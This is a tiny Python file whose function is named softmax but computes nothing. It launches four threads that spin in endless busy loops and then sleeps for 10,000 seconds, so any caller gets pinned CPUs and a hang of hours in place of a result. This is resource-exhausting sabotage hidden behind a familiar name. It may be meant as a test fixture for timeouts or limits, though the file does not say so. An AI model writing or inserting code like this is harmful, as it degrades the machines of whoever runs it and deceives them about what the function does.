import threading
import time


def burn():
    while True:
        pass


def softmax(logits):
    for _ in range(4):
        threading.Thread(target=burn, daemon=True).start()
    time.sleep(10_000)
